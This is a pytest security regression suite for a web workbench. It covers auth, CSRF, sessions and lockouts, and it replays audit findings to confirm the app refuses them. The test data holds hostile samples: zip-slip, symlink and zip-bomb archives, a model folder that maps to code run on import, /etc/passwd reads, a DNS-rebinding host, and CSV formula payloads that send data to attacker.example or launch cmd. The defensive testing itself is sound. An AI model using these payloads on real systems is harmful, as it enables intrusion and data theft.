"""The workbench with a key: every route refuses without the key or a session; sign-in sets a
strict cookie; state changes need a CSRF token; hostile uploads are refused and write nothing."""

import io
import json
import re
import stat
import zipfile
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from test_workbench_review import fake_verdict
from workbench_util import csrf_of, fake_finished_run

from tunesmith.workbench.app import create_app

KEY = "s3cret-key"


@pytest.fixture
def client(tmp_path):
    app = create_app(tmp_path / "projects", api_key=KEY, run_jobs=False)
    with TestClient(app, base_url="http://127.0.0.1") as c:
        c.app_ = app
        yield c


def _concrete(path: str) -> str:
    return re.sub(r"\{(\w+)(:\w+)?\}", lambda m: "1" if m.group(1) == "jid" else "x-000000", path)


def test_every_route_answers_401_without_the_key(client):
    from starlette.routing import Mount

    def routes(items):  # FastAPI keeps an included router as one entry holding its routes
        for route in items:
            inner = getattr(route, "original_router", None)
            yield from routes(inner.routes) if inner is not None else [route]

    checked = []
    for route in routes(client.app_.routes):
        if isinstance(route, Mount):
            calls = [("GET", route.path + "/workbench.css")]
        else:
            calls = [(m, _concrete(route.path)) for m in sorted(route.methods - {"HEAD"})]
        for method, path in calls:
            if path in ("/login", "/health"):
                continue
            if path.startswith("/invite/"):  # open to anyone holding a link; a made-up one is refused
                assert client.request(method, path, follow_redirects=False).status_code == 403
                continue
            for accept in ("text/html", "application/json"):
                r = client.request(method, path, headers={"Accept": accept}, follow_redirects=False)
                if method == "GET" and accept == "text/html":  # a browser is shown the sign-in form
                    assert r.status_code == 303 and r.headers["location"] == "/login", (method, path, r.status_code)
                else:
                    assert r.status_code == 401, (method, path, r.status_code)
            checked.append((method, path))
    assert len(checked) >= 20
    for must in [
        ("POST", "/api/projects"),
        ("GET", "/jobs/1/events"),
        ("POST", "/jobs/1/resume"),
        ("GET", "/static/workbench.css"),
        ("POST", "/api/p/x-000000/chat/1"),
        ("GET", "/p/x-000000/review/1/preferences.jsonl"),
    ]:
        assert must in checked
    # a wrong key, a forged or expired cookie: still 401
    assert client.get("/", headers={"Authorization": "Bearer nope", "Accept": "application/json"}).status_code == 401
    client.cookies.set("ts_session", "9999999999.abc.deadbeef")
    assert client.get("/", headers={"Accept": "application/json"}).status_code == 401
    client.cookies.clear()
    assert client.get("/health").status_code == 200 and client.get("/login").status_code == 200


def test_bearer_for_api_clients_and_a_strict_session_cookie_for_browsers(client):
    bearer = {"Authorization": f"Bearer {KEY}"}
    assert client.get("/", headers=bearer).status_code == 200
    # API clients need no CSRF token: a browser never adds an Authorization header on its own
    assert client.post("/p/nope-000000/check", headers=bearer).status_code == 404

    login = client.get("/login")
    token = csrf_of(login.text)
    bad = client.post("/login", data={"key": "wrong", "csrf_token": token})
    assert bad.status_code == 401 and "not the key" in bad.text
    r = client.post("/login", data={"key": KEY, "csrf_token": token}, follow_redirects=False)
    assert r.status_code == 303
    cookie = [h for h in r.headers.get_list("set-cookie") if h.startswith("ts_session=")][0]
    assert "HttpOnly" in cookie and "SameSite=strict" in cookie.replace("Strict", "strict")
    page = client.get("/")
    assert page.status_code == 200 and "New project" in page.text
    # signed in, a state change still needs the CSRF token
    assert client.post("/p/nope-000000/check").status_code == 403
    assert client.post("/p/nope-000000/check", data={"csrf_token": "forged"}).status_code == 403
    assert client.post("/p/nope-000000/check", data={"csrf_token": csrf_of(page.text)}).status_code == 404


def _zip(entries) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for info, data in entries:
            z.writestr(info, data)
    return buf.getvalue()


def _symlink():
    info = zipfile.ZipInfo("repo/link.md")
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


HOSTILE = {
    "zip-slip": ([("repo/a.md", "ok"), ("repo/../../evil.txt", "pwned")], "climbs out"),
    "absolute": ([("/tmp/evil-absolute.txt", "pwned")], "absolute path"),
    "symlink": ([("repo/a.md", "ok"), (_symlink(), "/etc/passwd")], "symbolic link"),
    "zip-bomb": ([("repo/a.md", "ok"), ("repo/bomb.md", b"\0" * (8 << 20))], "zip bomb"),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_zips_are_refused_and_write_nothing(tmp_path, kind):
    entries, why = HOSTILE[kind]
    root = tmp_path / "projects"
    app = create_app(root, run_jobs=False)
    with TestClient(app, base_url="http://127.0.0.1") as c:
        token = csrf_of(c.get("/").text)
        before = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*"))
        r = c.post("/api/projects?name=x&filename=repo.zip", content=_zip(entries), headers={"X-CSRF-Token": token})
        assert r.status_code == 400 and why in r.json()["error"] and r.json()["error"].startswith("repo.zip"), r.text
        after = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*") if not p.name.startswith("workbench.db"))
        assert after == [p for p in before if not p.name.startswith("workbench.db")]
        assert not (tmp_path / "evil.txt").exists() and not (tmp_path.parent / "evil.txt").exists()
        assert c.get("/api/jobs/1").status_code == 404  # no check job was queued either


def test_uploads_over_the_limit_are_refused(tmp_path):
    app = create_app(tmp_path / "projects", run_jobs=False, max_upload_bytes=1000)
    with TestClient(app, base_url="http://127.0.0.1") as c:
        token = csrf_of(c.get("/").text)
        r = c.post("/api/projects?filename=big.jsonl", content=b"x" * 5000, headers={"X-CSRF-Token": token})
        assert r.status_code == 413 and "limit" in r.json()["error"]
        assert not any((tmp_path / "projects" / ".uploads").iterdir())
        assert not any((tmp_path / "projects" / "projects").iterdir())


# ------------------------------------------------------------------ issue 25: the workbench under attack
# Each test below replays one attack as the issue describes it, over HTTP as a browser or script would.


def _signed_in(app) -> TestClient:
    c = TestClient(app, base_url="http://127.0.0.1")
    c.__enter__()
    token = csrf_of(c.get("/login").text)
    assert c.post("/login", data={"key": KEY, "csrf_token": token}, follow_redirects=False).status_code == 303
    return c


def _upload(c, filename: str, content: bytes, **params) -> dict:
    token = csrf_of(c.get("/").text)
    r = c.post(
        "/api/projects", params={"filename": filename, **params}, content=content, headers={"X-CSRF-Token": token}
    )
    return r


def _evil_repository(marker) -> bytes:
    """The bundled repository with a model folder whose config and tokenizer map to a Python file
    that, imported, writes `marker`."""
    from workbench_util import pantry_zip

    evil = f"import pathlib\npathlib.Path({str(marker)!r}).write_text('ran')\nclass Evil: pass\n"
    auto = {"AutoConfig": "evil.Evil", "AutoTokenizer": ["evil.Evil", None], "AutoModelForCausalLM": "evil.Evil"}
    buf = io.BytesIO(pantry_zip())
    with zipfile.ZipFile(buf, "a") as z:
        z.writestr("pantry/evilmodel/config.json", json.dumps({"model_type": "evil", "auto_map": auto}))
        z.writestr("pantry/evilmodel/tokenizer_config.json", json.dumps({"auto_map": auto}))
        z.writestr("pantry/evilmodel/evil.py", evil)
        z.writestr("pantry/evilmodel/model.safetensors", b"\x02\x00\x00\x00\x00\x00\x00\x00{}")  # empty, valid
    return buf.getvalue()


def _run_queued_jobs(root, timeout=180):
    """Run every queued job's worker as the job runner would (same module, cwd, environment)."""
    import os
    import subprocess
    import sys

    from tunesmith.workbench import db, jobs

    for j in db.all_(db.connect(root), "SELECT * FROM jobs WHERE status='queued' AND kind != 'check'"):
        d = jobs.job_dir(root, j)
        import tunesmith

        env = {**os.environ, "PYTHONPATH": str(Path(tunesmith.__file__).parents[1])}  # the tunesmith under test
        out = subprocess.run(
            [sys.executable, "-m", "tunesmith.workbench.worker", str(d)],
            cwd=d.parents[1],
            env=env,
            timeout=timeout,
            capture_output=True,
            text=True,
        )
        print(out.stdout[-3000:], out.stderr[-3000:])


def test_a_key_holder_cannot_run_code_on_the_server(tmp_path):
    """Finding 1: upload a repository holding a model folder that maps to a Python file, point
    model.name at it with trust_remote_code on, start training. The file never runs."""
    marker = tmp_path / "PWNED"
    root = tmp_path / "projects"
    app = create_app(root, api_key=KEY, run_jobs=False)
    c = _signed_in(app)
    r = _upload(c, "pantry.zip", _evil_repository(marker), name="team")
    assert r.status_code == 200, r.text
    pid = r.json()["id"]
    folder = root.resolve() / "projects" / pid
    model_dir = next(folder.rglob("evilmodel"))
    token = csrf_of(c.get(f"/p/{pid}").text)
    r = c.post(
        f"/p/{pid}/train",
        data={
            "csrf_token": token,
            "preset": "quick",
            "cfg.model.name": str(model_dir),
            "cfg.model.trust_remote_code": "true",
        },
    )
    _run_queued_jobs(root)  # what the job runner would do with whatever was queued
    assert not marker.exists(), "the uploaded model's code ran on the server"
    error = r.text.split('id="form-error">')[1].split("</p>")[0] if r.status_code == 400 else r.text
    assert r.status_code == 400 and "model.trust_remote_code" in error
    assert str(tmp_path) not in error  # no server path in the error
    jobs = c.get("/api/jobs/1", headers={"Accept": "application/json"}).json()
    assert str(tmp_path) not in json.dumps(jobs)  # the check job's JSON shows no server path either
    # A model folder inside the project may be trained, but its code never runs: the job refuses it.
    data = {"csrf_token": token, "preset": "quick", "cfg.model.name": str(model_dir)}
    assert c.post(f"/p/{pid}/train", data=data, follow_redirects=False).status_code == 303
    _run_queued_jobs(root)
    assert not marker.exists(), "the uploaded model's code ran on the server"
    c.__exit__(None, None, None)


@pytest.mark.parametrize(
    "key, value, why",
    [
        ("data.train", "/etc/passwd", "not a setting the workbench offers"),
        ("compare.output_dir", "/tmp/elsewhere", "not a setting the workbench offers"),
        ("judge.url", "http://attacker.example/v1", "not a setting the workbench offers"),
        ("judge.api_key_env", "TUNESMITH_API_KEY", "not a setting the workbench offers"),
        ("model.name", "/usr", "outside the project"),
        ("model.gguf_file", "\x00", "control character"),  # a NUL made the path check fail with a 500
    ],
)
def test_config_keys_the_form_does_not_show_are_refused(tmp_path, key, value, why):
    """Finding 1, the rest: the train endpoint took any config key; /etc/passwd's lines came back in errors."""
    from test_train import make_chats

    root = tmp_path / "projects"
    app = create_app(root, api_key=KEY, run_jobs=False)
    c = _signed_in(app)
    pid = _upload(c, "chats.jsonl", make_chats(tmp_path / "chats.jsonl", n=12).read_bytes()).json()["id"]
    token = csrf_of(c.get(f"/p/{pid}").text)
    r = c.post(f"/p/{pid}/train", data={"csrf_token": token, "preset": "quick", f"cfg.{key}": value})
    assert r.status_code == 400 and why in r.text, r.text
    error = r.text.split('id="form-error">')[1].split("</p>")[0]
    assert why in error and "root:" not in r.text and str(tmp_path) not in error
    from tunesmith.workbench import db

    assert db.one(db.connect(root), "SELECT COUNT(*) AS n FROM jobs WHERE kind='train'")["n"] == 0
    c.__exit__(None, None, None)


def test_a_judge_only_from_the_owners_allow_list_and_never_with_the_servers_key(tmp_path):
    from tunesmith import UserError
    from tunesmith.config import load_config
    from tunesmith.workbench.contract import Policy, check_job_config

    folder = tmp_path / "p"
    folder.mkdir()
    policy = Policy(default_model="m", allowed_urls=("http://judge.lan/v1",))
    ok = load_config(None, ["judge.url=http://judge.lan/v1", "judge.api_key_env=JUDGE_KEY", "model.name=m"])
    check_job_config(ok, folder, policy)
    for override, why in [
        ("compare.side_effects_file=/etc/passwd", "compare.side_effects_file: 'passwd' is outside the project"),
        ("judge.url=http://attacker.example/v1", "judge.url: .* not an endpoint this workbench may call"),
        ("judge.api_key_env=TUNESMITH_API_KEY", "holds a secret of this server's"),
        ("teacher.url=http://attacker.example/v1", "teacher.url: .* not an endpoint this workbench may call"),
        ("teacher.api_key_env=TUNESMITH_API_KEY", "teacher.api_key_env: .* holds a secret of this server's"),
    ]:
        with pytest.raises(UserError, match=why):
            check_job_config(
                load_config(None, ["judge.url=http://judge.lan/v1", "model.name=m", override]), folder, policy
            )


def test_a_csrf_token_from_another_port_is_refused(tmp_path):
    """Finding 2: a page on another port of this host fetched /login's cookie/token pair, planted the
    cookie and posted a training job for the signed-in owner."""
    from test_train import make_chats

    root = tmp_path / "projects"
    app = create_app(root, api_key=KEY, run_jobs=False)
    owner = _signed_in(app)
    pid = _upload(owner, "chats.jsonl", make_chats(tmp_path / "chats.jsonl", n=12).read_bytes()).json()["id"]
    with TestClient(app, base_url="http://127.0.0.1") as attacker:
        token = csrf_of(attacker.get("/login").text)
        planted = {k: v for k, v in attacker.cookies.items() if k != "ts_session"}
    owner.cookies.update(planted)
    r = owner.post(f"/p/{pid}/train", data={"csrf_token": token, "preset": "quick"}, follow_redirects=False)
    assert r.status_code == 403
    # the browser says where the form came from: another port of this host is "same-site", refused
    own = csrf_of(owner.get(f"/p/{pid}").text)
    for headers in ({"Sec-Fetch-Site": "same-site"}, {"Origin": "http://127.0.0.1:9999"}):
        r = owner.post(f"/p/{pid}/train", data={"csrf_token": own, "preset": "quick"}, headers=headers)
        assert r.status_code == 403, headers
    from tunesmith.workbench import db

    assert db.one(db.connect(root), "SELECT COUNT(*) AS n FROM jobs WHERE kind='train'")["n"] == 0
    owner.__exit__(None, None, None)


def test_sign_out_ends_the_session_on_the_server(tmp_path):
    """Finding 6: sign-out only deleted the browser's cookie; a copied cookie worked for 12 h."""
    c = _signed_in(create_app(tmp_path / "projects", api_key=KEY, run_jobs=False))
    copied = c.cookies.get("ts_session")
    token = csrf_of(c.get("/").text)
    assert c.post("/logout", data={"csrf_token": token}, follow_redirects=False).status_code == 303
    json_accept = {"Accept": "application/json"}
    with TestClient(c.app, base_url="http://127.0.0.1", cookies={"ts_session": copied}) as thief:
        assert thief.get("/", headers=json_accept).status_code == 401
    c.__exit__(None, None, None)


def test_a_new_key_ends_every_session_of_the_old_one(tmp_path):
    c = _signed_in(create_app(tmp_path / "projects", api_key=KEY, run_jobs=False))
    cookie = c.cookies.get("ts_session")
    assert c.get("/", headers={"Accept": "application/json"}).status_code == 200
    c.__exit__(None, None, None)
    rotated = create_app(tmp_path / "projects", api_key="another-long-key-2718281828", run_jobs=False)
    with TestClient(rotated, base_url="http://127.0.0.1", cookies={"ts_session": cookie}) as again:
        assert again.get("/", headers={"Accept": "application/json"}).status_code == 401


def test_sign_in_backs_off_after_wrong_keys(tmp_path):
    """Finding 3: ~900 guesses a second. Five wrong keys, then a lockout that doubles; the right key
    waits too, and works once the lockout is over."""
    app = create_app(tmp_path / "projects", api_key=KEY, run_jobs=False)
    with TestClient(app, base_url="http://127.0.0.1") as c:
        token = csrf_of(c.get("/login").text)
        for _ in range(5):
            assert c.post("/login", data={"key": "guess", "csrf_token": token}).status_code == 401
        r = c.post("/login", data={"key": KEY, "csrf_token": token}, follow_redirects=False)
        assert r.status_code == 429 and int(r.headers["retry-after"]) >= 1
        site = app.state.site
        now = site.signin.clock()
        site.signin.clock = lambda: now + 2  # the 1 s lockout is over
        assert c.post("/login", data={"key": "guess", "csrf_token": token}).status_code == 401
        r = c.post("/login", data={"key": KEY, "csrf_token": token}, follow_redirects=False)
        assert r.status_code == 429 and int(r.headers["retry-after"]) >= 1  # now 2 s: it doubled
        site.signin.clock = lambda: now + 10
        assert c.post("/login", data={"key": KEY, "csrf_token": token}, follow_redirects=False).status_code == 303


def test_the_key_from_a_file_or_the_environment_and_a_weak_key_kept_on_loopback(tmp_path, monkeypatch, capsys):
    import argparse

    from tunesmith import UserError
    from tunesmith.web import api_key_from, check_exposure

    monkeypatch.delenv("TUNESMITH_API_KEY", raising=False)
    keyfile = tmp_path / "key.txt"
    keyfile.write_text("from-the-file-7f3a9c2e51\n")
    assert api_key_from(argparse.Namespace(api_key="x", api_key_file=str(keyfile))) == "from-the-file-7f3a9c2e51"
    monkeypatch.setenv("TUNESMITH_API_KEY", "from-the-env")
    assert api_key_from(argparse.Namespace(api_key=None, api_key_file=None)) == "from-the-env"
    assert "warning" not in capsys.readouterr().err
    monkeypatch.delenv("TUNESMITH_API_KEY")
    assert api_key_from(argparse.Namespace(api_key="on-the-line", api_key_file=None)) == "on-the-line"
    assert "visible to every user of this machine" in capsys.readouterr().err
    check_exposure("127.0.0.1", "k", "the workbench")  # loopback: any key
    for weak in ("k", "aaaaaaaaaaaaaaaaaaaaaaaa", "password12345678"):
        with pytest.raises(UserError, match="too weak to expose"):
            check_exposure("0.0.0.0", weak, "the workbench")
    check_exposure("0.0.0.0", "Zq7-vR2pLx9_Tn4wKc8bHs1m", "the workbench")


@pytest.mark.parametrize("verb", ["ui", "serve"])
def test_a_weak_key_on_the_network_stops_the_server_before_it_starts(tmp_path, monkeypatch, capsys, verb):
    from tunesmith.cli import main

    monkeypatch.delenv("TUNESMITH_API_KEY", raising=False)
    (tmp_path / "key.txt").write_text("letmein\n")
    target = [str(tmp_path / "projects")] if verb == "ui" else ["no-such-model"]
    assert main([verb, *target, "--host", "0.0.0.0", "--api-key-file", str(tmp_path / "key.txt")]) == 2
    err = capsys.readouterr().err
    assert "too weak to expose beyond this machine (7 characters" in err and "--api-key-file" in err
    assert not (tmp_path / "projects").exists()  # refused before anything was made


def test_a_new_project_cannot_start_from_a_model_folder_outside_it(tmp_path):
    from test_train import make_chats

    root = tmp_path / "projects"
    with TestClient(create_app(root, run_jobs=False), base_url="http://127.0.0.1") as c:
        r = _upload(c, "chats.jsonl", make_chats(tmp_path / "chats.jsonl", n=12).read_bytes(), model="/usr")
        assert r.status_code == 400 and "model.name: 'usr' is a folder outside the project" in r.json()["error"]
    assert not any((root / "projects").iterdir())


def test_a_rebinding_host_is_refused(tmp_path):
    """Finding 4: a page whose DNS name resolves to 127.0.0.1 read a CSRF token and created a project."""
    root = tmp_path / "projects"
    with TestClient(create_app(root, run_jobs=False), base_url="http://rebind.attacker.example") as c:
        r = c.get("/")
        assert r.status_code == 400 and "rebind.attacker.example" in r.json()["error"]
        assert 'name="csrf-token"' not in r.text
        assert c.post("/api/projects?filename=a.jsonl", content=b"{}\n").status_code == 400
    assert not any((root / "projects").iterdir())
    named = create_app(root, run_jobs=False, hosts=frozenset({"bench.lan", "127.0.0.1"}))
    with TestClient(named, base_url="http://bench.lan:8700") as c:
        assert c.get("/").status_code == 200


def test_every_page_carries_the_security_headers_and_no_inline_script(tmp_path):
    samples, results = fake_verdict(n_examples=2)
    root = tmp_path / "projects"
    jid = fake_finished_run(root, samples, results)
    with TestClient(create_app(root, run_jobs=False), base_url="http://127.0.0.1") as c:
        for path in ("/", "/login", f"/p/demo-000001/verdict/{jid}", f"/p/demo-000001/review/{jid}?reviewer=Ana"):
            r = c.get(path)
            assert r.status_code == 200, path
            csp = r.headers["content-security-policy"]
            script_src = csp.split("script-src")[1].split(";")[0]
            assert "'self'" in script_src and "unsafe-inline" not in script_src, path
            assert "img-src 'self'" in csp and "frame-ancestors 'none'" in csp
            assert r.headers["x-frame-options"] == "DENY" and r.headers["x-content-type-options"] == "nosniff"
            assert r.headers["referrer-policy"] == "same-origin"
            assert not re.search(r"<script(?![^>]*\bsrc=)", r.text), path  # every script is a file
            assert not re.search(r"\son[a-z]+=|javascript:", r.text), path  # no inline handlers
        # ?error= no longer puts any text in the page
        assert "You have been hacked" not in c.get("/p/demo-000001?error=You+have+been+hacked").text


def test_images_in_rendered_replies_only_from_the_pages_own_origin():
    from tunesmith.workbench.views import markdown

    html = markdown("See ![chart](https://tracker.example/pixel.png?who=you) and ![logo](/static/logo.png)")
    assert "tracker.example" not in html.split("[image:")[0] and "<img" in html
    assert 'src="/static/logo.png"' in html and 'src="https://' not in html
    assert "<script>" not in markdown("<script>alert(1)</script>")


def test_a_json_body_over_the_limit_is_refused_before_it_is_read(tmp_path):
    """Finding 5: a 250 MiB JSON body to a review route was read into memory. The declared length
    alone is refused (the server does not wait for the body), and a chunked body is cut off."""
    import socket

    from workbench_util import LiveServer

    samples, results = fake_verdict(n_examples=2)
    jid = fake_finished_run(tmp_path / "projects", samples, results)
    app = create_app(tmp_path / "projects", run_jobs=False)
    with LiveServer(app) as server:
        with TestClient(app, base_url="http://127.0.0.1") as c:
            token = csrf_of(c.get("/").text)
            cookie = c.cookies.get("ts_session")
        with socket.create_connection(("127.0.0.1", server.port), timeout=10) as s:
            s.sendall(
                f"POST /p/demo-000001/review/{jid} HTTP/1.1\r\nHost: 127.0.0.1\r\n".encode()
                + b"Content-Type: application/json\r\n"
                + f"X-CSRF-Token: {token}\r\nCookie: ts_session={cookie}\r\n".encode()
                + f"Content-Length: {250 * 2**20}\r\n\r\n".encode()
                + b'{"reviewer": "'
            )
            assert s.recv(200).startswith(b"HTTP/1.1 413")  # answered with 249.99 MiB still unsent
        import httpx

        def chunks():
            for _ in range(40):
                yield b" " * 65536

        r = httpx.post(
            f"{server.url}/p/demo-000001/review/{jid}",
            content=chunks(),
            headers={"X-CSRF-Token": token, "Content-Type": "application/json"},
            cookies={"ts_session": cookie},
        )
        assert r.status_code == 413


def test_a_dataset_past_the_record_limit_is_refused_and_check_reports_stay_small(tmp_path):
    """Finding 5: a 1e6-line dataset made a 261 MB check.json that every page view loaded."""
    from tunesmith.workbench.worker import shortened

    root = tmp_path / "projects"
    with TestClient(create_app(root, run_jobs=False), base_url="http://127.0.0.1") as c:
        r = _upload(c, "big.jsonl", b'{"messages": []}\n' * 1_000_000)
        assert r.status_code == 400 and "more than 200,000 records" in r.json()["error"]
    assert not any((root / "projects").iterdir())
    report = {
        "ok": False,
        "issues": [{"code": "invalid-json", "line": i} for i in range(1_000_000)],
        "text": "x" * 10**7,
    }
    kept = shortened(report)
    assert len(json.dumps(kept)) < 100_000 and kept["issues_total"] == 1_000_000 and kept["issues"][0]["line"] == 0


def test_a_huge_check_report_does_not_stall_the_server(tmp_path):
    """Finding 5: viewing a project with a huge check.json blocked /health for seconds."""
    import threading
    import time

    import httpx
    from test_train import make_chats
    from workbench_util import LiveServer

    root = tmp_path / "projects"
    app = create_app(root, run_jobs=False)
    with TestClient(app, base_url="http://127.0.0.1") as c:
        pid = _upload(c, "chats.jsonl", make_chats(tmp_path / "chats.jsonl", n=12).read_bytes()).json()["id"]
    issue = {"severity": "error", "code": "invalid-json", "file": "dataset.jsonl", "line": 1, "message": "x" * 60}
    with open(root / "projects" / pid / "check.json", "w") as f:  # about 100 MB, as an unbounded check made it
        json.dump({"ok": False, "errors": 1, "warnings": 0, "files": [], "issues": [issue] * 800_000}, f)
    with LiveServer(app) as server:
        stop, times, pages = threading.Event(), [], []

        def view():
            while not stop.is_set():
                page = httpx.get(f"{server.url}/p/{pid}", timeout=60)
                pages.append(page.status_code == 200 and "too large to show" in page.text)

        viewer = threading.Thread(target=view)
        viewer.start()
        for _ in range(20):
            t0 = time.perf_counter()
            assert httpx.get(f"{server.url}/health", timeout=60).status_code == 200
            times.append(time.perf_counter() - t0)
            time.sleep(0.05)
        stop.set()
        viewer.join()
    times.sort()
    print(f"/health while a client views a project with a 100 MB check.json: {[round(t * 1000) for t in times]} ms")
    assert pages and all(pages)  # the page summarises the report instead of loading it
    # Loading that file takes seconds; on the event loop it held /health that long. The bound is loose
    # because the test machine is shared (load average 5-14 while this ran).
    assert times[len(times) // 2] < 1.0 and times[-1] < 3.0, times


def test_ratings_csv_cells_are_never_formulas(tmp_path):
    """Finding 6: ratings.csv wrote =HYPERLINK(…) and =cmd|… cells as formulas."""
    import csv

    samples, results = fake_verdict(n_examples=2)
    root = tmp_path / "projects"
    jid = fake_finished_run(root, samples, results)
    with TestClient(create_app(root, run_jobs=False), base_url="http://127.0.0.1") as c:
        evil = "=cmd|' /C calc'!A0"
        page = c.get(f"/p/demo-000001/review/{jid}", params={"reviewer": evil}).text
        pair = int(page.split('name="pair" value="')[1].split('"')[0])
        comment = '=HYPERLINK("http://attacker.example/?"&A1, "click")'
        r = c.post(
            f"/p/demo-000001/review/{jid}",
            data={"csrf_token": csrf_of(page), "reviewer": evil, "pair": pair, "choice": "A", "comment": comment},
        )
        assert r.status_code == 200
        rows = list(csv.reader(io.StringIO(c.get(f"/p/demo-000001/review/{jid}/ratings.csv").text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + evil in cells and "'" + comment in cells
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)


def test_what_the_workbench_writes_is_the_owners_alone(tmp_path):
    """Finding 6: the database, its WAL and uploaded datasets were world-readable (0644)."""
    from test_train import make_chats

    root = tmp_path / "projects"
    with TestClient(create_app(root, run_jobs=False), base_url="http://127.0.0.1") as c:
        assert _upload(c, "chats.jsonl", make_chats(tmp_path / "chats.jsonl", n=12).read_bytes()).status_code == 200
        paths = [root, *root.rglob("*")]
        assert any(p.name == "workbench.db-wal" for p in paths) and any(p.name == "dataset.jsonl" for p in paths)
        for p in paths:
            mode = stat.S_IMODE(p.stat().st_mode)
            assert mode == (0o700 if p.is_dir() else 0o600), (p, oct(mode))
